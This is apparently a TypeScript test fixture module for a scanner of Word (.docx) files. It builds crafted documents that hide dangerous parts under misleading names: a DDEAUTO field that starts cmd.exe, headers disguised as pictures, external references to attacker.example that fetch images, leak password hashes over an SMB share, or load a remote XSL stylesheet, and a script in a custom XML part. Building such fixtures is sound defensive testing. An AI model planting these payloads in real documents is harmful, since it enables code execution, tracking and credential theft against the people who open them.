import {
  documentOf,
  docx,
  external,
  head,
  mainType,
  paragraph,
  partsOf,
  picture,
  relationships,
  root,
  run,
} from './docx-parts.ts';
import { type Row, toText } from './variant.ts';

const starts = 'Word asks to update the field, and starts the program.';
const dde = paragraph(
  `<w:fldSimple w:instr="DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe x">${run('1')}</w:fldSimple>`,
);
const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const refers = documentOf('').replace(
  '<w:sectPr/>',
  '<w:sectPr><w:headerReference w:type="default" r:id="rId9"/></w:sectPr>',
);
const inUtf16 = (text: string) => toText(Buffer.from(`\ufeff${text.replace('UTF-8', 'UTF-16')}`, 'utf16le'));
const types = (more: Parameters<typeof partsOf>[0]) => partsOf(more)['[Content_Types].xml'] ?? '';
const aside = {
  mainType: mainType.replace(
    'openxmlformats-officedocument.wordprocessingml.document',
    'ms-word.document.macroEnabled',
  ),
};

/** Parts where a check that goes by names would not look. */
export const docxSeldom: readonly Row[] = [
  [
    'text under another name, beside one that is calm',
    docx({
      parts: {
        '_rels/.rels': relationships({ rId1: { type: 'officeDocument', target: 'other/text.xml' } }),
        'other/text.xml': documentOf(dde),
      },
      types: { 'other/text.xml': mainType },
    }),
    starts,
  ],
  [
    'header called a picture',
    docx({
      relations: { rId9: { type: 'header', target: 'media/image1.png' } },
      parts: { 'word/document.xml': refers, 'word/media/image1.png': root('hdr', dde) },
      types: { 'word/media/image1.png': `${word}.header+xml` },
    }),
    starts,
  ],
  [
    'header without an ending',
    docx({
      relations: { rId9: { type: 'header', target: 'h' } },
      parts: { 'word/document.xml': refers, 'word/h': root('hdr', dde) },
      types: { 'word/h': `${word}.header+xml` },
    }),
    starts,
  ],
  [
    'picture elsewhere in a header',
    docx({
      relations: { rId9: { type: 'header', target: 'header1.xml' } },
      parts: {
        'word/document.xml': refers,
        'word/header1.xml': root('hdr', picture('rId1', 'link')),
        'word/_rels/header1.xml.rels': relationships({
          rId1: external('image', 'https://attacker.example/seen.png'),
        }),
      },
    }),
    'Word fetches the picture when the file is opened.',
  ],
  [
    'relations of the whole file to the outside',
    docx({
      parts: {
        '_rels/.rels': relationships({
          rId1: { type: 'officeDocument', target: 'word/document.xml' },
          rId2: external(
            'http://schemas.openxmlformats.org/package/2006/relationships/metadata/thumbnail',
            'file:///\\\\attacker.example\\share\\a.jpeg',
          ),
        }),
      },
    }),
    'Windows asks the share for the preview, with the hashed password of the person who sees the folder.',
  ],
  [
    'types in UTF-16 that say macros',
    docx({ ...aside, parts: { '[Content_Types].xml': inUtf16(types(aside)) } }),
    'Readers take it for a document with macros.',
  ],
  [
    'type of XML that is handed to a browser',
    docx({
      parts: {
        'customXml/item1.xml': `${head}<?xml-stylesheet type="text/xsl" href="https://attacker.example/a.xsl"?><html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>`,
      },
    }),
    'A browser that shows the part by itself fetches the style sheet and runs the script.',
  ],
];
